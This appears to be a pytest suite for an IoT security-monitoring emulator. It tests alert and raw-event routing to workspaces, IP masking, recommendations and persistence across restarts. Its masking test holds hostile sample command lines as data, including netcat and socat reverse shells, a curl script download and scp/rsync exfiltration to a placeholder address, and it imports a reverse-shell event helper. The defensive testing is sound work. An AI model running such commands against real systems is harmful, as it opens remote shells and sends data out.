"""Security solutions: which hubs are watched, where their data goes, and what of it."""

import itertools
import json
from dataclasses import dataclass, field

import pytest
from security_messages import failed_logins, listening_ports, login, message, new_id, process_start, reverse_shell
from turnstone_server import Device, Server, wait_until

HUB = "Microsoft.Devices/IotHubs"
WORKSPACE = "Microsoft.OperationalInsights/workspaces"
SOLUTION = "Microsoft.Security/iotSecuritySolutions"
#: Of the reverse shell in `security_messages`, and of the attacks of these tests.
ADDRESS, MASKED = "198.51.100.7", "198.51.100.0"
numbers = itertools.count(1)


def resource_id(server: Server, of: str, name: str, group: str = "default") -> str:
    subscription = server.admin("GET", "/subscriptions?api-version=2022-12-01").json["value"][0]["id"]
    return f"{subscription}/resourceGroups/{group}/providers/{of}/{name}"


def call(server: Server, method: str, path: str, body=None):
    return server.admin(method, f"{path}?api-version=2019-08-01", body)


def put(server: Server, path: str, body: dict | None = None) -> dict:
    answer = call(server, "PUT", path, {"location": "local", **(body or {})})
    assert answer.status in (200, 201), f"{answer.status} {answer.text}"
    return answer.json


def refusal(answer, status: int) -> str:
    assert answer.status == status, f"{answer.status} {answer.text}"
    return answer.json["error"]["message"]


def make_workspace(server: Server, name: str | None = None) -> str:
    name = name or f"space-{next(numbers)}"
    put(server, resource_id(server, WORKSPACE, name))
    return name


def tenant(server: Server, workspace: str) -> str:
    return call(server, "GET", resource_id(server, WORKSPACE, workspace)).json["properties"]["customerId"]


@dataclass
class Site:
    """A hub and what is known of it."""

    server: Server
    hub: str
    workspace: str | None = None
    properties: dict = field(default_factory=dict)
    devices: dict[str, Device] = field(default_factory=dict)

    @property
    def hub_id(self) -> str:
        return resource_id(self.server, HUB, self.hub)

    @property
    def solution_id(self) -> str:
        return resource_id(self.server, SOLUTION, f"watch-{self.hub}")

    def settings(self, **changed) -> dict:
        """The solution's properties with some of them changed; one that is None is left out."""
        workspace = self.workspace and resource_id(self.server, WORKSPACE, self.workspace)
        of_site = {"displayName": self.hub, "iotHubs": [self.hub_id], "workspace": workspace}
        every = {**of_site, "unmaskedIpLoggingStatus": "Enabled", **self.properties, **changed}
        return {name: value for name, value in every.items() if value is not None}

    def set(self, **changed):
        """Changes the solution, and makes it where there is none."""
        self.properties.update(changed)
        put(self.server, self.solution_id, {"properties": self.settings()})

    def device(self, name: str = "pump-01") -> Device:
        if name not in self.devices:
            made = self.server.admin("PUT", f"/api/v1/devices/{name}?hub={self.hub}")
            assert made.status == 201, made.text
            self.devices[name] = Device(name, made.json["primaryKey"], "")
        return self.devices[name]

    def send(self, *events: dict, device: str = "pump-01", host: str | None = None):
        sender = self.device(device)
        resource = f"{host or self.hub + '.localhost'}/devices/{device}"
        token = self.server.sas(device, sender.key, resource=resource)
        self.server.accept(sender, message(*events), token=token, secure=False)

    def rows(self, query: str, workspace: str | None = None) -> list[list]:
        """Of a workspace that has had no data yet, none."""
        workspace = workspace or self.workspace
        table = query.split("|")[0].strip()
        if table not in self.server.manage(".show tables | project TableName", workspace).values:
            return []
        return self.server.kusto(query, workspace).rows

    def raw(self, workspace: str | None = None) -> list[str]:
        """The ids of the raw events that are stored."""
        return sorted(row[0] for row in self.rows("SecurityIoTRawEvent | project IoTRawEventId", workspace))

    def marks(self, workspace: str | None = None) -> list[str]:
        """The marks of the reverse shells that there are alerts for."""
        query = """SecurityAlert | where AlertType == 'IoT_ReverseShell'
            | project extract('# (.+)$', 1, tostring(parse_json(ExtendedProperties).CommandLine))"""
        return sorted(row[0] for row in self.rows(query, workspace))

    def attack(self, mark: str, workspace: str | None = None, **options):
        """An attack, and its alert. Events are judged one after the other, so all that came before are judged too."""
        self.send(reverse_shell(mark), **options)
        wait_until(lambda: mark in self.marks(workspace), 30, f"the alert {mark}")

    def recommendations(self, workspace: str | None = None) -> list[tuple]:
        query = "SecurityRecommendation | order by TimeGenerated asc | project RecommendationName, RecommendationState"
        return [tuple(row) for row in self.rows(query, workspace)]

    def notes(self, workspace: str | None = None) -> list[list]:
        query = f"Operation | where Detail has \"the hub '{self.hub}'\" | order by TimeGenerated asc"
        return self.rows(f"{query} | project OperationStatus, Detail", workspace)


def make_site(server: Server, **properties) -> Site:
    """A hub, a workspace, and a solution that sends the one's data to the other."""
    site = make_hub(server)
    site.workspace = make_workspace(server)
    site.set(**properties)
    return site


def make_hub(server: Server) -> Site:
    site = Site(server, f"plant-{next(numbers)}")
    put(server, site.hub_id)
    return site


@pytest.fixture(scope="module")
def server(servers) -> Server:
    return servers("--no-agent")


def restart(server: Server, end: str = "stop"):
    getattr(server, end)()
    server.start()


# Raw events


def test_raw_events_are_stored_only_while_the_solution_exports_them(server):
    site = make_site(server)
    first, second, third = (process_start("true", event_id=new_id()) for _ in range(3))
    site.send(first)
    site.attack("without")
    assert site.raw() == []
    site.set(export=["RawEvents"])
    site.send(second)
    assert site.raw() == [second["Id"]]
    site.set(export=[])
    site.send(third)
    site.attack("without again")
    assert site.raw() == [second["Id"]], "what is stored stays, and nothing more comes"


def test_an_event_that_is_repeated_after_the_export_begins_raises_no_second_alert(server):
    site = make_site(server)
    attack = reverse_shell("once")
    site.send(attack)
    wait_until(lambda: site.marks() == ["once"], 30, "the alert")
    site.set(export=["RawEvents"])
    site.send(attack)
    site.attack("the other")
    assert site.marks() == ["once", "the other"]


# Where data goes


@pytest.mark.parametrize("host", ["{}.localhost", "{}", "{}.hubs.example.com"])
def test_the_rows_of_a_hub_go_to_its_workspace_and_name_it(server, host):
    site, other = make_site(server, export=["RawEvents"]), make_site(server, export=["RawEvents"])
    for one in (site, other):
        one.attack("here", host=host.format(one.hub))
        one.send(listening_ports("0.0.0.0:22"), host=host.format(one.hub))
        wait_until(lambda: one.recommendations(), 30, "the recommendation")
    for one in (site, other):
        guid = tenant(server, one.workspace)
        for table, column in (
            ("SecurityIoTRawEvent", "AssociatedResourceId"),
            ("SecurityAlert", "ResourceId"),
            ("SecurityRecommendation", "AssessedResourceId"),
        ):
            assert one.rows(f"{table} | distinct {column}, TenantId") == [[one.hub_id, guid]], table
            assert one.rows(f"{table} | where {column} =~ '{one.hub_id}'", "default") == []
    assert tenant(server, site.workspace) != tenant(server, other.workspace)


def test_the_name_of_a_hub_is_taken_in_any_case(server):
    site = make_site(server, export=["RawEvents"])
    site.attack("capitals", host=f"{site.hub.upper()}.localhost")
    assert site.rows("SecurityAlert | distinct ResourceId") == [[site.hub_id]]
    # To make a hub again, in other letters, leaves it as it is.
    put(server, resource_id(server, HUB, site.hub.upper()))
    site.attack("again")
    assert site.rows("SecurityAlert | distinct ResourceId") == [[site.hub_id]]


def test_a_hub_of_another_group_is_known_by_its_whole_id(server):
    subscription = resource_id(server, HUB, "x").split("/resourceGroups")[0]
    put(server, f"{subscription}/resourceGroups/north")
    site = Site(server, f"plant-{next(numbers)}", make_workspace(server))
    hub = resource_id(server, HUB, site.hub, "north")
    put(server, hub)
    put(server, site.solution_id, {"properties": site.settings(iotHubs=[hub])})
    site.attack("north")
    assert site.rows("SecurityAlert | project ResourceId, WorkspaceResourceGroup") == [[hub, "north"]]
    # Devices know a hub by its name alone, so there is one of a name.
    assert site.hub in refusal(call(server, "PUT", site.hub_id, {"location": "local"}), 409)


def test_a_key_of_one_hub_is_no_key_of_another(server):
    site, other = make_hub(server), make_hub(server)
    mine, theirs = site.device(), other.device()
    for host, key in ((site.hub, theirs.key), (other.hub, mine.key), ("localhost", mine.key)):
        token = server.sas("", key, resource=f"{host}/devices/pump-01")
        assert server.send(mine, message(process_start("true")), token=token, secure=False).status == 401, host


@pytest.fixture(params=["of two solutions", "of one solution"])
def twins(server, request) -> tuple[Site, Site]:
    """Two hubs, each with a device of the same name."""
    site = make_site(server, export=["RawEvents"])
    if request.param == "of two solutions":
        return site, make_site(server, export=["RawEvents"])
    other = make_hub(server)
    other.workspace = site.workspace
    site.set(iotHubs=[site.hub_id, other.hub_id])
    return site, other


def of_hub(site: Site, table: str, column: str) -> str:
    return f"{table} | where {column} == '{site.hub_id}'"


def test_devices_of_one_name_in_two_hubs_are_not_taken_for_one_another_in_alerts(server, twins):
    attempts = failed_logins("203.0.113.40", 12)
    # Each gets half of an attack, which is none.
    for site, half in zip(twins, (attempts[:6], attempts[6:])):
        site.send(*half)
    # The same event at both is two events, with an alert each.
    same = reverse_shell("both")
    for site in twins:
        site.send(same)
        query = of_hub(site, "SecurityAlert", "ResourceId")
        wait_until(lambda: site.rows(query), 30, "the alert")
        assert site.rows(f"{query} | project AlertType") == [["IoT_ReverseShell"]]
        raw = of_hub(site, "SecurityIoTRawEvent", "AssociatedResourceId")
        assert site.rows(f"{raw} | where IoTRawEventId == '{same['Id']}' | count") == [[1]]
    ids = {site.rows(of_hub(site, "SecurityAlert", "ResourceId") + " | project SystemAlertId")[0][0] for site in twins}
    assert len(ids) == 2


def states(site: Site) -> list:
    query = of_hub(site, "SecurityRecommendation", "AssessedResourceId")
    return [row[0] for row in site.rows(f"{query} | order by TimeGenerated asc | project RecommendationState")]


def test_devices_of_one_name_in_two_hubs_are_not_taken_for_one_another_in_recommendations(server, twins):
    bad, good = twins
    bad.send(listening_ports("0.0.0.0:22"))
    wait_until(lambda: states(bad) == ["Active"], 30, "the recommendation")
    good.send(listening_ports())
    good.send(reverse_shell("mark"))
    alerts = of_hub(good, "SecurityAlert", "ResourceId")
    wait_until(lambda: good.rows(alerts), 30, "the mark")
    assert (states(bad), states(good)) == (["Active"], [])
    good.send(listening_ports("0.0.0.0:23"))
    wait_until(lambda: states(good) == ["Active"], 30, "the other's recommendation")
    bad.send(listening_ports())
    wait_until(lambda: states(bad) == ["Active", "Inactive"], 30, "the end of the one")
    assert states(good) == ["Active"]


def test_recommendations_for_devices_of_one_name_in_two_hubs_have_ids_of_their_own(server, twins):
    for site in twins:
        site.send(listening_ports("0.0.0.0:22"))
        wait_until(lambda: states(site) == ["Active"], 30, "the recommendation")
    query = "SecurityRecommendation | project RecommendationId"
    ids = {row[0] for site in twins for row in site.rows(query)}
    assert len(ids) == 2


def test_a_solution_shows_the_alerts_of_its_own_hubs_alone(server):
    site = make_site(server)
    other = make_hub(server)
    other.workspace = site.workspace
    other.set()
    site.attack("one")
    other.attack("other")
    for one in (site, other):
        listed = call(server, "GET", f"{one.solution_id}/iotAlerts").json["value"]
        assert [alert["properties"]["extendedProperties"]["DeviceId"] for alert in listed] == ["pump-01"]
    found = [call(server, "GET", f"{one.solution_id}/iotAlerts").json["value"][0]["name"] for one in (site, other)]
    assert found[0] != found[1]


# Switched off


def test_a_solution_that_is_disabled_takes_messages_and_passes_them_over(server):
    site = make_site(server, export=["RawEvents"])
    site.attack("before")
    site.set(status="Disabled")
    # They are taken: a device that is turned away would send them again and again.
    for number in range(3):
        site.send(reverse_shell(f"passed over {number}"))
    site.send(listening_ports("0.0.0.0:22"))
    notes = site.notes()
    assert len(notes) == 1 and notes[0][0] == "Warning" and "passed over" in notes[0][1]
    site.set(status="Enabled")
    site.attack("then")
    assert site.marks() == ["before", "then"]
    assert len(site.raw()) == 2 and site.recommendations() == []
    assert [status for status, _ in site.notes()] == ["Warning", "Succeeded"]


def test_what_was_passed_over_is_not_found_after_a_restart_either(new_server):
    server = new_server("--no-agent").start()
    site = make_site(server)
    site.attack("before")
    site.set(status="Disabled")
    site.send(reverse_shell("passed over"))
    restart(server, "kill")
    site.send(reverse_shell("passed over too"))
    site.set(status="Enabled")
    site.attack("then")
    assert site.marks() == ["before", "then"]


def test_a_hub_without_a_solution_stores_nothing(server):
    site = make_hub(server)
    before = [site.rows(f"{table} | count", "default") for table in ("SecurityAlert", "SecurityIoTRawEvent")]
    site.send(reverse_shell("nobody looks"), listening_ports("0.0.0.0:22"))
    site.workspace = make_workspace(server)
    site.set(export=["RawEvents"])
    site.attack("somebody looks")
    assert site.marks() == ["somebody looks"] and len(site.raw()) == 1
    after = [site.rows(f"{table} | count", "default") for table in ("SecurityAlert", "SecurityIoTRawEvent")]
    assert after == before


@pytest.mark.parametrize("end", ["stop", "kill"])
def test_a_hub_whose_solution_was_deleted_stores_nothing_also_after_a_restart(new_server, end):
    server = new_server("--no-agent").start()
    site = make_site(server)
    site.send(listening_ports("0.0.0.0:22"))
    site.attack("watched")
    assert site.recommendations() == [("IoT_OpenPorts", "Active")]
    assert call(server, "DELETE", site.solution_id).status == 200
    site.send(reverse_shell("not watched"))
    restart(server, end)
    site.send(reverse_shell("nor now"))
    # Marks, here once it is watched again: all that came before them is judged, or was passed over.
    first = Site(server, "hub", "default")
    first.attack("first")
    assert first.marks() == ["first"] and first.recommendations() == [], "no other workspace gets what one has had"
    site.set()
    site.attack("watched again")
    assert site.marks() == ["watched", "watched again"]


# Addresses


def test_addresses_are_masked_wherever_they_are_stored(server):
    site = make_site(server, export=["RawEvents"], unmaskedIpLoggingStatus="Disabled")
    site.attack("masked")
    site.send(*failed_logins(ADDRESS))
    wait_until(lambda: len(site.rows("SecurityAlert")) == 2, 30, "the alert about the logins")
    whole = json.dumps([site.rows("SecurityAlert"), site.rows("SecurityIoTRawEvent")])
    assert ADDRESS not in whole
    query = "project AlertType, text = strcat(ExtendedProperties, Entities) | where text contains '" + MASKED + "'"
    assert {row[0] for row in site.rows(f"SecurityAlert | {query}")} == {"IoT_ReverseShell", "IoT_Bruteforce_Fail"}
    attackers = f"SecurityAlert | where AlertType == 'IoT_Bruteforce_Fail' and Entities contains '{MASKED}' | count"
    assert site.rows(attackers) == [[1]]
    assert site.rows(f"SecurityIoTRawEvent | where EventDetails contains '{MASKED}' | count") == [[13]]


def test_addresses_are_masked_where_nothing_is_said_and_shown_where_it_is_said(server):
    site = make_site(server, export=["RawEvents"], unmaskedIpLoggingStatus=None)
    shown = call(server, "GET", site.solution_id).json["properties"]
    assert shown["unmaskedIpLoggingStatus"] == "Disabled"
    site.attack("masked")
    site.set(unmaskedIpLoggingStatus="Enabled")
    site.attack("shown")
    query = """SecurityAlert | extend d = parse_json(ExtendedProperties) | order by TimeGenerated asc
        | project extract('tcp/([0-9.]+)', 1, tostring(d.CommandLine))"""
    assert [row[0] for row in site.rows(query)] == [MASKED, ADDRESS]
    assert site.rows(f"SecurityIoTRawEvent | where EventDetails contains '{ADDRESS}' | count") == [[1]]


@pytest.mark.parametrize(
    "command_line",
    [
        "nc 203.0.113.9 4444",
        "curl http://203.0.113.9:8080/x.sh",
        "ssh root@203.0.113.9",
        "iptables -A INPUT -s 203.0.113.9/32 -j ACCEPT",
        "ping -c1 '203.0.113.9'",
        "X=203.0.113.9;ping $X",
        "socat TCP:203.0.113.9:4444 EXEC:/bin/sh",
        "ssh -N -R 8080:203.0.113.9:80 gateway",
        "curl --resolve update.example.com:443:203.0.113.9 https://update.example.com",
        "scp dump root@203.0.113.9:backup.tar",
        "scp dump root@203.0.113.9:a",
        "rsync -a / 203.0.113.9::backup",
    ],
)
def test_an_address_is_masked_however_it_stands_in_a_command_line(masked_site, command_line):
    event_id = new_id()
    masked_site.send(process_start(command_line, event_id=event_id))
    query = f"SecurityIoTRawEvent | where IoTRawEventId == '{event_id}'"
    stored = masked_site.rows(f"{query} | project tostring(parse_json(EventDetails).CommandLine)")
    assert stored == [[command_line.replace("203.0.113.9", "203.0.113.0")]]


@pytest.fixture(scope="module")
def masked_site(server) -> Site:
    return make_site(server, export=["RawEvents"], unmaskedIpLoggingStatus="Disabled")


def test_an_address_in_a_message_that_is_refused_is_masked_too(masked_site):
    sent = message(login("203.0.113.9", True))
    sent["Events"][0]["Payload"][0]["ProcessId"] = "203.0.113.9"
    device = masked_site.device("pump-02")
    token = masked_site.server.sas("", device.key, resource=f"{masked_site.hub}/devices/pump-02")
    assert masked_site.server.send(device, sent, token=token, secure=False).status == 400
    details = masked_site.rows("Operation | where Computer == 'pump-02' | project Detail")
    assert len(details) == 1 and "ProcessId" in details[0][0]
    assert "203.0.113.9" not in details[0][0]


# Recommendations


def off(name: str, status: str = "Disabled") -> list[dict]:
    return [{"recommendationType": name, "status": status}]


def test_a_recommendation_that_is_switched_off_ends_and_comes_back_when_it_is_switched_on(server):
    site = make_site(server)
    site.send(listening_ports("0.0.0.0:22"))
    wait_until(lambda: site.recommendations(), 30, "the recommendation")
    site.set(recommendationsConfiguration=off("IoT_OpenPorts"))
    active, inactive = ("IoT_OpenPorts", "Active"), ("IoT_OpenPorts", "Inactive")
    wait_until(lambda: site.recommendations() == [active, inactive], 30, "its end")
    listed = f"{site.solution_id}/analyticsModels/default/aggregatedRecommendations"
    assert call(server, "GET", listed).json["value"] == []
    site.send(listening_ports("0.0.0.0:23"))
    site.attack("while it is off")
    assert site.recommendations() == [active, inactive]
    site.set(recommendationsConfiguration=off("IoT_OpenPorts", "Enabled"))
    site.send(listening_ports("0.0.0.0:23"))
    wait_until(lambda: site.recommendations() == [active, inactive, active], 30, "it is there again")
    assert [item["name"] for item in call(server, "GET", listed).json["value"]] == ["IoT_OpenPorts"]


def test_a_recommendation_can_be_switched_off_by_itself(server):
    site = make_site(server, export=["RawEvents"])
    change = {"recommendationsConfiguration": off("IoT_OpenPorts")}
    answer = call(server, "PATCH", site.solution_id, {"properties": change})
    assert answer.status == 200, answer.text
    shown = call(server, "GET", site.solution_id).json["properties"]
    listed = shown["recommendationsConfiguration"]
    disabled = [item["recommendationType"] for item in listed if item["status"] == "Disabled"]
    assert disabled == ["IoT_OpenPorts"] and shown["export"] == ["RawEvents"]
    site.send(listening_ports("0.0.0.0:22"))
    site.attack("mark")
    assert site.recommendations() == []
    refused = call(server, "PATCH", site.solution_id, {"properties": {"export": []}})
    assert "export" in refusal(refused, 400)


@pytest.mark.parametrize("end", ["stop", "kill"])
def test_a_recommendation_stays_switched_off_through_a_restart(new_server, end):
    server = new_server("--no-agent").start()
    site = make_site(server)
    site.send(listening_ports("0.0.0.0:22"))
    wait_until(lambda: site.recommendations(), 30, "the recommendation")
    site.set(recommendationsConfiguration=off("IoT_OpenPorts"))
    wait_until(lambda: len(site.recommendations()) == 2, 30, "its end")
    restart(server, end)
    site.send(listening_ports("0.0.0.0:22"))
    site.attack("mark")
    assert [state for _, state in site.recommendations()] == ["Active", "Inactive"]


# More workspaces


def additional(server: Server, workspace: str, *types: str) -> dict:
    return {"workspace": resource_id(server, WORKSPACE, workspace), "type": "Sentinel", "dataTypes": list(types)}


@pytest.mark.parametrize("types", [["Alerts"], ["RawEvents"], ["Alerts", "RawEvents"], []], ids=str)
@pytest.mark.parametrize("export", [[], ["RawEvents"]], ids=["no raw events", "raw events"])
def test_additional_workspaces_get_what_was_asked_for_them(server, types, export):
    site = make_site(server, export=export)
    site.attack("main alone")
    more = make_workspace(server)
    site.set(additionalWorkspaces=[additional(server, more, *types)])
    attack, ports = reverse_shell("both"), listening_ports("0.0.0.0:22")
    site.send(attack, ports)
    wait_until(lambda: "both" in site.marks() and site.recommendations(), 30, "the alert and the recommendation")
    # Beside what came before, one more of each; alerts are written to all places before the next is judged.
    site.attack("after")
    wanted = ["after", "both"] if "Alerts" in types else []
    wait_until(lambda: site.marks(more) == wanted, 30, "the alerts at the other place")
    assert site.marks() == ["after", "both", "main alone"]
    assert len(site.raw()) == (4 if export else 0)
    assert {attack["Id"], ports["Id"]} <= set(site.raw(more)) if "RawEvents" in types else site.raw(more) == []
    assert site.recommendations(more) == []
    tables = [table for table, of in (("SecurityAlert", "Alerts"), ("SecurityIoTRawEvent", "RawEvents")) if of in types]
    for table in tables:
        assert site.rows(f"{table} | distinct TenantId", more) == [[tenant(server, more)]]
    # What it has had it keeps, and no more comes.
    had = site.raw(more)
    site.set(additionalWorkspaces=[])
    site.attack("main again")
    assert site.raw(more) == had and site.marks(more) == wanted


def test_an_additional_workspace_is_not_told_of_what_was_before_it_by_a_restart(new_server):
    server = new_server("--no-agent").start()
    site = make_site(server)
    site.attack("before")
    more = make_workspace(server)
    site.set(additionalWorkspaces=[additional(server, more, "Alerts")])
    restart(server, "kill")
    site.attack("after")
    wait_until(lambda: "after" in site.marks(more), 30, "the alert at the other place")
    assert site.marks(more) == ["after"]


# Another workspace


def test_after_a_change_of_workspace_new_data_goes_to_the_new_one_and_old_rows_stay(server):
    site = make_site(server, export=["RawEvents"])
    old = site.workspace
    site.attack("old")
    before = site.raw()
    site.workspace = make_workspace(server)
    site.set()
    site.attack("new")
    assert (site.marks(old), site.marks()) == (["old"], ["new"])
    assert site.raw(old) == before and len(site.raw()) == 1
    assert site.rows("SecurityAlert | distinct TenantId") == [[tenant(server, site.workspace)]]


@pytest.mark.parametrize("export", [[], ["RawEvents"]], ids=["no raw events", "raw events"])
def test_after_a_change_of_workspace_a_restart_brings_nothing_old_to_the_new_one(new_server, export):
    server = new_server("--no-agent").start()
    site = make_site(server, export=export)
    old = site.workspace
    site.attack("old")
    site.workspace = make_workspace(server)
    site.set()
    restart(server, "kill")
    site.attack("new")
    assert (site.marks(old), site.marks()) == (["old"], ["new"])


def test_after_a_change_of_workspace_the_new_one_knows_what_is_wrong_with_devices(server):
    site = make_site(server)
    old = site.workspace
    site.send(listening_ports("0.0.0.0:22"))
    wait_until(lambda: site.recommendations(), 30, "the recommendation")
    site.workspace = make_workspace(server)
    site.set()
    site.send(listening_ports("0.0.0.0:22"))
    site.attack("mark")
    assert site.recommendations() == [("IoT_OpenPorts", "Active")]
    site.send(listening_ports())
    wait_until(lambda: len(site.recommendations()) == 2, 30, "its end")
    assert site.recommendations(old)[0] == ("IoT_OpenPorts", "Active")


def test_a_solution_that_names_no_workspace_sends_to_the_first_one(server):
    site = make_hub(server)
    site.set(export=["RawEvents"])
    site.attack("first", "default")
    assert site.rows(f"SecurityAlert | where ResourceId == '{site.hub_id}' | count", "default") == [[1]]


# What is refused


def other_solution(site: Site) -> str:
    return resource_id(site.server, SOLUTION, f"second-{site.hub}")


NOWHERE = "/subscriptions/0/resourceGroups/default/providers"
REFUSED = {
    "a source that is not here": (lambda s: {"disabledDataSources": ["TwinData"]}, "TwinData"),
    "an unknown export": (lambda s: {"export": ["Everything"]}, "Everything"),
    "an unknown hub": (lambda s: {"iotHubs": [resource_id(s, HUB, "plant-unknown")]}, "plant-unknown"),
    "a hub of another group": (lambda s: {"iotHubs": [resource_id(s, HUB, "hub", "elsewhere")]}, "elsewhere"),
    "an unknown workspace": (lambda s: {"workspace": resource_id(s, WORKSPACE, "space-unknown")}, "space-unknown"),
    "a workspace of another subscription": (
        lambda s: {"workspace": f"{NOWHERE}/{WORKSPACE}/default"},
        "/subscriptions/0/",
    ),
    "an unknown additional workspace": (
        lambda s: {"additionalWorkspaces": [additional(s, "space-unknown", "Alerts")]},
        "space-unknown",
    ),
    "an additional workspace of another kind": (
        lambda s: {"additionalWorkspaces": [{**additional(s, "default", "Alerts"), "type": "Splunk"}]},
        "Splunk",
    ),
    "an unknown recommendation": (lambda s: {"recommendationsConfiguration": off("IoT_Nothing")}, "IoT_Nothing"),
    "an unknown status": (lambda s: {"status": "Perhaps"}, "Perhaps"),
    "an unknown status of masking": (lambda s: {"unmaskedIpLoggingStatus": "Perhaps"}, "unmaskedIpLoggingStatus"),
    "no hubs": (lambda s: {"iotHubs": None}, "iotHubs"),
    "no name": (lambda s: {"displayName": None}, "displayName"),
    "a query of other resources": (
        lambda s: {"userDefinedResources": {"query": "where true", "querySubscriptions": []}},
        "userDefinedResources",
    ),
}


@pytest.mark.parametrize("what", REFUSED)
def test_a_setting_that_cannot_be_is_refused_by_name_and_changes_nothing(server, watched, what):
    change, name = REFUSED[what]
    before = call(server, "GET", watched.solution_id).text
    properties = watched.settings(**change(server))
    for path in (watched.solution_id, other_solution(watched)):
        answer = call(server, "PUT", path, {"location": "local", "properties": properties})
        assert name in refusal(answer, 400)
    assert call(server, "GET", watched.solution_id).text == before
    assert call(server, "GET", other_solution(watched)).status == 404


@pytest.fixture(scope="module")
def watched(server) -> Site:
    return make_site(server)


def test_a_hub_belongs_to_one_solution(server, watched):
    hub = resource_id(server, HUB, watched.hub.upper())
    for hubs in ([watched.hub_id], [hub], [make_hub(server).hub_id, watched.hub_id]):
        properties = watched.settings(iotHubs=hubs)
        answer = call(server, "PUT", other_solution(watched), {"location": "local", "properties": properties})
        said = refusal(answer, 409)
        assert watched.hub_id.split("/")[-1].lower() in said.lower() and watched.solution_id in said
    assert call(server, "GET", other_solution(watched)).status == 404


@pytest.mark.parametrize("name", ["ab", "a.b", "-ab", "ab-", "a_b", "a" * 51, "a%20b"])
def test_a_hub_whose_name_is_no_name_of_a_host_is_refused(server, name):
    assert "name" in refusal(call(server, "PUT", resource_id(server, HUB, name), {"location": "local"}), 400)


def test_a_workspace_that_is_written_to_is_not_deleted(server):
    site = make_site(server)
    main, more = site.workspace, make_workspace(server)
    site.set(additionalWorkspaces=[additional(server, more, "Alerts")])
    for name in (main, more, main.upper()):
        said = refusal(call(server, "DELETE", resource_id(server, WORKSPACE, name)), 409)
        assert site.solution_id in said
    site.attack("still")
    assert site.marks() == ["still"] and site.rows("SecurityRecommendation", more) == []
    site.workspace = make_workspace(server)
    site.set(additionalWorkspaces=[])
    for name in (main, more):
        assert call(server, "DELETE", resource_id(server, WORKSPACE, name)).status == 200
        assert call(server, "GET", resource_id(server, WORKSPACE, name)).status == 404
    site.attack("elsewhere")


def test_a_workspace_that_is_made_again_is_empty(server):
    site = make_site(server, export=["RawEvents"])
    site.attack("old")
    assert call(server, "DELETE", site.solution_id).status == 200
    assert call(server, "DELETE", resource_id(server, WORKSPACE, site.workspace)).status == 200
    make_workspace(server, site.workspace)
    assert site.marks() == []
    site.set()
    site.attack("new")
    assert site.marks() == ["new"] and len(site.raw()) == 1


def test_a_database_whose_name_differs_in_letters_alone_is_no_other_workspace(server):
    """A workspace is known by its name in any case; a second one would have the rights and the data of the first."""
    site = make_site(server)
    command = f".create database ['{site.workspace.upper()}']"
    answer = server.admin("POST", "/v1/rest/mgmt", {"db": "default", "csl": command})
    listed = [row[0] for row in server.manage(".show databases").rows]
    assert [name for name in listed if name.lower() == site.workspace] == [site.workspace], answer.text


# Hubs that go


def test_a_hub_that_is_deleted_goes_with_its_devices(server):
    site = make_site(server)
    site.attack("last")
    device = site.device()
    first = server.create_device(f"of-the-first-{site.hub}")
    assert site.solution_id in refusal(call(server, "DELETE", site.hub_id), 409)
    assert call(server, "DELETE", site.solution_id).status == 200
    assert call(server, "DELETE", site.hub_id).status == 200
    assert call(server, "GET", site.hub_id).status == 404
    token = server.sas("", device.key, resource=f"{site.hub}.localhost/devices/{device.id}")
    assert server.send(device, message(process_start("true")), token=token, secure=False).status == 401
    assert server.admin("GET", f"/api/v1/devices?hub={site.hub}").status == 404
    # Its rows stay, and so do the devices of others.
    assert site.marks() == ["last"]
    server.accept(first, message(process_start("true")), secure=False)
    # One that is made again has none of its devices.
    put(server, site.hub_id)
    assert server.admin("GET", f"/api/v1/devices?hub={site.hub}").json["value"] == []
    assert server.send(device, message(process_start("true")), token=token, secure=False).status == 401


def test_a_hub_that_was_deleted_and_made_again_starts_anew(server):
    site = make_site(server)
    site.send(listening_ports("0.0.0.0:22"))
    wait_until(lambda: site.recommendations(), 30, "the recommendation")
    assert call(server, "DELETE", site.solution_id).status == 200
    assert call(server, "DELETE", site.hub_id).status == 200
    site.devices.clear()
    put(server, site.hub_id)
    site.set(export=["RawEvents"])
    site.attack("anew")
    assert site.marks() == ["anew"] and len(site.raw()) == 1


def test_the_first_hub_stays(server):
    refusal(call(server, "DELETE", resource_id(server, HUB, "hub")), 409)
    assert call(server, "GET", resource_id(server, HUB, "hub")).status == 200


# Restarts


@pytest.mark.parametrize("end", ["stop", "kill"])
def test_all_settings_outlive_a_restart(new_server, end):
    server = new_server("--no-agent").start()
    exporting, masking = make_site(server, export=["RawEvents"]), make_site(server, unmaskedIpLoggingStatus="Disabled")
    disabled, unwatched = make_site(server, status="Disabled"), make_hub(server)
    sites = [exporting, masking, disabled, unwatched]
    for site in sites:
        site.send(login("203.0.113.77", True))
    shown = [call(server, "GET", site.hub_id).json for site in sites]
    shown += [call(server, "GET", site.solution_id).json for site in sites[:3]]
    tenants = [tenant(server, site.workspace) for site in sites[:3]]
    restart(server, end)
    again = [call(server, "GET", site.hub_id).json for site in sites]
    again += [call(server, "GET", site.solution_id).json for site in sites[:3]]
    for one in (*shown, *again):
        # The address of the server is another each time.
        one["properties"].pop("hostName", None)
    assert again == shown
    assert [tenant(server, site.workspace) for site in sites[:3]] == tenants
    for site in (disabled, unwatched):
        site.send(reverse_shell("nobody looks"))
    for site in (exporting, masking):
        site.attack("after")
        assert site.marks() == ["after"]
    assert len(exporting.raw()) == 2
    assert masking.raw() == []
    assert masking.rows(f"SecurityAlert | where ExtendedProperties contains '{ADDRESS}' | count") == [[0]]
    disabled.set(status="Enabled")
    disabled.attack("on again")
    assert disabled.marks() == ["on again"]
    assert Site(server, "hub", "default").marks() == []


@pytest.mark.parametrize("end", ["stop", "kill"])
def test_additional_workspaces_go_on_after_a_restart(new_server, end):
    server = new_server("--no-agent").start()
    site, more = make_site(server), make_workspace(server)
    site.set(additionalWorkspaces=[additional(server, more, "Alerts", "RawEvents")])
    site.attack("before")
    restart(server, end)
    site.attack("after")
    wait_until(lambda: site.marks(more) == ["after", "before"], 30, "the alerts at the other place")
    assert len(site.raw(more)) == 2 and site.raw() == []


def test_raw_events_of_the_first_hub_are_switched_on_by_the_command_line_and_stay_on(new_server):
    server = new_server("--no-agent").start()
    first = Site(server, "hub", "default")
    solution = resource_id(server, SOLUTION, "default")

    def export() -> list:
        return call(server, "GET", solution).json["properties"]["export"]

    first.send(process_start("true"))
    assert export() == [] and first.raw() == []
    server.stop()
    server.arguments = ("--no-agent", "--raw-events")
    server.start()
    first.send(process_start("true"))
    assert export() == ["RawEvents"] and len(first.raw()) == 1
    server.stop()
    server.arguments = ("--no-agent",)
    server.start()
    first.send(process_start("true"))
    assert export() == ["RawEvents"] and len(first.raw()) == 2
